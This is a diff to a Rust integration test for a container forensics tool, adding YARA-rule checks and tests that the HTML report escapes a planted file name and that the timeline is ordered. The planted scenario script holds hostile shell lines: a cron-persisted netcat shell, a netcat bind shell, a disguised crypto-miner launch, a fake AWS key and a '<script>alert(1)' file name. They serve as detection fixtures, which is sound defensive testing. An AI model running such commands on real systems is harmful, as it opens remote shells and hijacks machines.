@@ -14,8 +14,10 @@ use std::time::Duration;
 const PLANTED_KEY: &str = "AKIAKFTESTPLANTED123";
 
 const SUSPECT: &str = r#"mkdir -p /etc/cron.d; echo '* * * * * root nc 127.0.0.1 4444 -e sh' > /etc/cron.d/x
+cp /bin/busybox '/tmp/<script>alert(1)'
 cp /bin/busybox /tmp/xmrig; P=stratum+tcp; (POOL=$P://pool.example:3333 exec -a sleep /tmp/xmrig 100000) &
 nc -l -p 4444 -e sh & sleep 1; sleep 100000 | nc 127.0.0.1 4444 &
+sh -c 'A=kfyara; B=canary; S="$A-$B-$((6*7))"; while true; do sleep 1; done' &
 sleep 1; rm /tmp/xmrig; K=AKIAKFTESTPLANTED; export AWS_ACCESS_KEY_ID=${K}$((100+23)); exec sleep 100000"#;
 
 /// The same shapes, benign: files written (not persistence), a renamed argv, a pipe, plain
@@ -150,8 +152,47 @@ fn each_rule_fires_on_its_plant_and_not_on_the_lookalike() {
     assert_eq!(manifest["complete"], true);
     assert!(crate::support::verify_ok(&bundle));
 
+    // YARA: the built-in miner rule on the miner's memory, a user rule on a string that only
+    // exists in one process's memory (built at run time), each naming the pid and the mapping
+    let rules = tempfile::tempdir().unwrap();
+    std::fs::write(
+        rules.path().join("canary.yar"),
+        "rule kf_test_canary { meta: severity = \"medium\" strings: $a = \"kfyara-canary-42\" condition: $a }",
+    )
+    .unwrap();
+    let (code, yjson, err) = triage(&bundle, &["-o", "json", "--yara", rules.path().to_str().unwrap()]);
+    assert_eq!(code, Some(4), "{err}");
+    let yf = findings(&yjson);
+    let yara = with_rule(&yf, "KF-YARA-001");
+    let builtin: Vec<_> = yara.iter().filter(|x| x["reason"].as_str().unwrap().contains("kforensic:kf_miner_stratum_url")).collect();
+    assert!(builtin.iter().any(|x| x["evidence"]["pid"].as_u64() == Some(miner[0])), "{yjson}");
+    let canary: Vec<_> = yara.iter().filter(|x| x["reason"].as_str().unwrap().contains("user:kf_test_canary")).collect();
+    assert_eq!(canary.len(), 1, "{yjson}");
+    let volatile: Value = serde_json::from_slice(&std::fs::read(bundle.join(&vol)).unwrap()).unwrap();
+    let holder = volatile["processes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|p| p["cmdline"].as_array().is_some_and(|c| c.iter().any(|a| a.as_str().unwrap().contains("A=kfyara"))))
+        .and_then(|p| p["pid"].as_u64())
+        .expect("canary process");
+    assert_eq!(canary[0]["evidence"]["pid"].as_u64(), Some(holder), "{yjson}");
+    assert_eq!(canary[0]["severity"], "medium");
+    let region = canary[0]["evidence"]["region"].as_str().unwrap();
+    let addr = u64::from_str_radix(canary[0]["evidence"]["address"].as_str().unwrap().trim_start_matches("0x"), 16).unwrap();
+    let (lo, hi) = region.split_whitespace().next().unwrap().split_once('-').unwrap();
+    let (lo, hi) = (u64::from_str_radix(&lo[2..], 16).unwrap(), u64::from_str_radix(&hi[2..], 16).unwrap());
+    assert!(lo <= addr && addr < hi, "{region} {addr:#x}");
+    // a rule file that does not compile: one line, before anything is read
+    std::fs::write(rules.path().join("canary.yar"), "rule broken { condition: $nope }").unwrap();
+    let (code, _, err) = triage(&bundle, &["--yara", rules.path().to_str().unwrap()]);
+    assert_eq!(code, Some(1), "{err}");
+    assert!(err.contains("canary.yar") && err.contains("not valid YARA") && err.lines().count() == 1, "{err}");
+
     // SARIF: one run, every result's rule in the driver's rules, levels from the vocabulary
     check_sarif(&sarif, f.len());
+
+    report_and_timeline(&bundle);
 
     // the look-alike: nothing at all
     let (code, json, err) = triage(&clean, &["-o", "json"]);
@@ -200,4 +241,74 @@ fn bad_input_is_one_line() {
     let out = kforensic(&["-o", "sarif", "verify", f.to_str().unwrap()]);
     assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
     assert!(stderr(&out).contains("sarif"), "{}", stderr(&out));
+}
+
+/// `report` renders in headless Chromium with the findings and hashes, and the planted
+/// `<script>` file name stays text; `timeline` is Timesketch JSONL and CSV in time order.
+fn report_and_timeline(bundle: &Path) {
+    let planted = "<script>alert(1)";
+    let out = tempfile::tempdir().unwrap();
+    let html = out.path().join("report.html");
+    let r = kforensic(&["report", bundle.to_str().unwrap(), "--out", html.to_str().unwrap()]);
+    assert_eq!(r.status.code(), Some(0), "{}", stderr(&r));
+    let again = kforensic(&["report", bundle.to_str().unwrap(), "--out", html.to_str().unwrap()]);
+    assert_eq!(again.status.code(), Some(2), "an existing file is never overwritten");
+    let text = std::fs::read_to_string(&html).unwrap();
+    assert!(!text.contains(planted) && text.contains("&lt;script&gt;alert(1)"), "the file name is escaped");
+    assert!(!text.contains(PLANTED_KEY), "the key's value is in the report");
+    assert!(!text.contains("src=") && !text.contains("href=") && !text.contains("<link") && !text.contains("url("), "nothing is fetched");
+
+    let chrome = |extra: &[&str]| {
+        let profile = tempfile::tempdir().unwrap();
+        let mut args: Vec<String> = [
+            "--headless",
+            "--no-sandbox",
+            "--disable-gpu",
+            "--disable-quic",
+            "--no-first-run",
+            "--disable-background-networking",
+            "--disable-component-update",
+            "--disable-sync",
+            "--window-size=1280,2000",
+        ]
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
+        args.push(format!("--user-data-dir={}", profile.path().display()));
+        args.extend(extra.iter().map(|s| s.to_string()));
+        args.push(format!("file://{}", html.display()));
+        let o = std::process::Command::new("chromium").args(&args).output().expect("chromium (scripts/testenv installs it)");
+        (o, profile)
+    };
+    let png = out.path().join("report.png");
+    let (o, _p) = chrome(&[&format!("--screenshot={}", png.display())]);
+    let shot = std::fs::read(&png).unwrap_or_else(|e| panic!("no screenshot ({e}): {}", String::from_utf8_lossy(&o.stderr)));
+    assert!(shot.len() > 10_000 && shot.starts_with(b"\x89PNG"), "screenshot of {} bytes", shot.len());
+    let (o, _p) = chrome(&["--dump-dom"]);
+    let dom = String::from_utf8_lossy(&o.stdout);
+    assert!(dom.contains("id=\"findings\"") && dom.contains("KF-PROC-004") && dom.contains("KF-FS-003"), "{dom}");
+    let manifest: Value = serde_json::from_slice(&std::fs::read(bundle.join("manifest.json")).unwrap()).unwrap();
+    for a in manifest["artifacts"].as_array().unwrap() {
+        assert!(dom.contains(a["sha256"].as_str().unwrap()), "hash of {} missing from the report", a["path"]);
+    }
+    assert!(dom.contains("&lt;script&gt;alert(1)"), "the planted name is shown as text");
+    assert!(!dom.to_ascii_lowercase().contains("<script"), "a script element in the DOM");
+
+    // the timeline: Timesketch's three fields on every line, in time order, from every source
+    let t = kforensic(&["timeline", bundle.to_str().unwrap()]);
+    assert_eq!(t.status.code(), Some(0), "{}", stderr(&t));
+    let lines: Vec<Value> = stdout(&t).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    for l in &lines {
+        assert!(l["message"].is_string() && l["timestamp_desc"].is_string(), "{l}");
+    }
+    let times: Vec<jiff::Timestamp> = lines.iter().map(|l| l["datetime"].as_str().unwrap().parse().unwrap()).collect();
+    assert!(times.windows(2).all(|w| w[0] <= w[1]), "not in time order");
+    for desc in ["Custody event", "Pod started", "Container started", "Process started", "File modified"] {
+        assert!(lines.iter().any(|l| l["timestamp_desc"] == desc), "no {desc} event");
+    }
+    assert!(lines.iter().any(|l| l["timestamp_desc"] == "File modified" && l["message"].as_str().unwrap().contains("/etc/cron.d/x")));
+    assert!(!stdout(&t).contains(PLANTED_KEY));
+    let c = kforensic(&["timeline", bundle.to_str().unwrap(), "--format", "csv"]);
+    assert_eq!(stdout(&c).lines().count(), lines.len() + 1);
+    assert!(stdout(&c).starts_with("datetime,timestamp_desc,source,message,artifact\n"));
 }
